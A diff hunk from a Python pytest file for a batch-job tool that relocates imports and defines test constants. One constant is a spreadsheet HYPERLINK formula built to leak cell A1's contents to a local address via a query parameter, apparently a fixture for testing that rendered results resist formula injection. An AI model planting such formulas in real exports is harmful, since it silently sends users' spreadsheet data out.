@@ -13,10 +13,10 @@ from typing import Any
 import pytest
 import redis
 
+from kontext_batch.coord.keys import Keys
+from kontext_batch.coord.runs import RunStore
 from kontext_batch.jobspec import JobSpec
-from kontext_batch.keys import Keys
-from kontext_batch.results import COLUMNS, render_results
-from kontext_batch.runs import RunStore
+from kontext_batch.steps.results import COLUMNS, render_results
 
 RUN = "r-formulas"
 HYPERLINK = '=HYPERLINK("http://127.0.0.1/x?leak="&A1,"Click for details")'
